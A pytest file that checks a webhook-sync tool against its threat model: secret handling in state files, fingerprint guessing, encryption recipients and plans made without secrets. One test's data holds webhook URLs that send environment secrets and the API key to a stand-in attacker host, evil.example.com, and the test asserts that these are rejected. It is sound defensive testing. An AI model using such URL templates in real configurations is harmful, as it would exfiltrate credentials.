"""The cells of the threat model in docs/threat-model.md that no other test shows; and that each cell names a test."""

from __future__ import annotations

import ast
import re
from pathlib import Path
from threading import Event

import pytest

from sendkit_sync.state import read_state
from support.age_keys import IDENTITY, OTHER, READER, encrypted_config
from support.workspace import TWO, Workspace

HERE = Path(__file__).parent.parent
PAGE = (HERE.parent / "docs" / "threat-model.md").read_text(encoding="utf-8")
SUPPLIED = TWO.replace("positive_reply]\n", "positive_reply]\n    secret: ${CRM}\n")


def live_secrets(workspace: Workspace) -> dict[str, str]:
    return {webhook["name"]: webhook["secret"] for webhook in workspace.simulator.webhooks()}


def test_every_cell_names_tests_that_exist():
    tests = {
        node.name
        for path in HERE.rglob("test_*.py")
        for node in ast.walk(ast.parse(path.read_bytes()))
        if isinstance(node, ast.FunctionDef)
    }
    rows = [line for line in PAGE.splitlines() if line.startswith("| **")]
    assert len(rows) == 5
    for cell in [cell for row in rows for cell in row.strip("|").split("|")[1:]]:
        named = re.findall(r"`(test_\w+)`", cell)
        assert named, cell
        assert set(named) <= tests, cell


def test_a_repository_reader_finds_no_secret(workspace: Workspace):
    workspace.write(encrypted_config(text=SUPPLIED))
    environment = {"SENDKIT_SECRET_CRM": "canary-supplied-secret-03"}
    assert workspace.run("plan", "--out", "saved.json", **environment).returncode == 0
    assert workspace.run("apply", "--yes", "--parallelism", "1", killed_at="outcome-durable", **environment).returncode < 0
    assert workspace.apply(**environment).returncode == 0
    assert workspace.run("secret", "rotate", "Analytics", "--yes").returncode == 0
    files = [path for path in workspace.folder.rglob("*") if path.is_file()]
    assert {"sendkit.state.json", "sendkit.state.json.backup", "saved.json"} <= {path.name for path in files}
    for secret in live_secrets(workspace).values():
        assert not [path.name for path in files if secret.encode() in path.read_bytes()]


def test_a_weak_supplied_secret_can_be_guessed_from_the_state(workspace: Workspace):
    workspace.write(encrypted_config(text=SUPPLIED))
    done = workspace.apply(SENDKIT_SECRET_CRM="password123")
    assert "shorter than 20 characters" in done.stderr
    kept = workspace.state["webhooks"]["CRM Sync"]["secret"]
    from sendkit_sync.core.model import Fingerprint, Secret

    fingerprint = Fingerprint(str(kept["hmacSha256"]), str(kept["salt"]))  # type: ignore[index]
    assert [word for word in ("letmein", "password123") if fingerprint.matches(Secret(word))] == ["password123"]


def test_who_holds_the_key_can_ask_the_api(workspace: Workspace):
    workspace.write(encrypted_config())
    assert workspace.apply().returncode == 0
    from sendkit_sync.api.client import Client
    from sendkit_sync.core.clock import SystemClock, SystemRng
    from sendkit_sync.core.model import Secret

    client = Client(workspace.simulator.url, Secret("sk_any"), None, clock=SystemClock(), rng=SystemRng(), stop=Event())
    try:
        answered = {one.name: one.secret.reveal() for one in client.list() if one.secret is not None}
    finally:
        client.close()
    assert answered == live_secrets(workspace)


def test_who_has_a_state_in_clear_has_every_secret(workspace: Workspace):
    assert workspace.apply().returncode == 0
    state = read_state(str(workspace.folder / "sendkit.state.json"))
    assert state is not None
    found = {name: one.secret.clear.reveal() for name, one in state.webhooks.items() if one.secret and one.secret.clear}
    assert found == live_secrets(workspace)


@pytest.mark.parametrize("text", [SUPPLIED, encrypted_config(text=SUPPLIED)], ids=["clear", "encrypted"])
def test_a_fork_plans_without_any_secret(workspace: Workspace, text: str):
    workspace.write(text)
    assert workspace.run("validate", SENDKIT_API_KEY="").returncode == 0
    plan = workspace.run("plan", SENDKIT_API_KEY="")
    assert plan.returncode == 0
    assert "2 to create" in plan.stdout
    assert "SENDKIT_SECRET_CRM is not set" in plan.stderr
    assert workspace.simulator.requests == []


@pytest.mark.parametrize(
    "line",
    [
        "url: https://evil.example.com/${CRM}",
        "url: https://evil.example.com/${SECRET_CRM}",
        "url: https://evil.example.com/${SENDKIT_SECRET_CRM}",
        "url: https://evil.example.com/${SENDKIT_API_KEY}",
        "url: https://evil.example.com/${../SECRET_CRM}",
        'url: https://evil.example.com/\n    events: ["${SENDKIT_SECRET_CRM}"]',
    ],
)
def test_a_config_cannot_show_a_secret_of_the_environment(workspace: Workspace, line: str):
    workspace.write(
        f"version: 1\nwebhooks:\n  - name: A\n    {line}\n" + ("" if "events" in line else "    events: [email.sent]\n")
    )
    for words in (["plan"], ["plan", "--format", "json"], ["validate"]):
        done = workspace.run(*words, SENDKIT_SECRET_CRM="canary-environment-secret")
        assert done.returncode == 65
        assert "canary-environment-secret" not in done.stdout + done.stderr
    workspace.check_nothing_shown()


def test_a_merged_recipient_reads_what_is_sealed_from_then_on(workspace: Workspace):
    more = "  - {name: New, url: https://n.example.com/in, events: [email.sent]}\n"
    workspace.write(encrypted_config(IDENTITY))
    assert workspace.apply().returncode == 0
    workspace.write(encrypted_config(IDENTITY, OTHER, text=TWO + more))
    assert workspace.apply().returncode == 0
    other = {"SOPS_AGE_KEY": str(OTHER)}
    assert workspace.run("secret", "get", "CRM Sync", **other).returncode == 1
    assert workspace.run("secret", "get", "New", **other).stdout.strip() == live_secrets(workspace)["New"]
    assert workspace.run("secret", "get", "New", **READER).returncode == 0
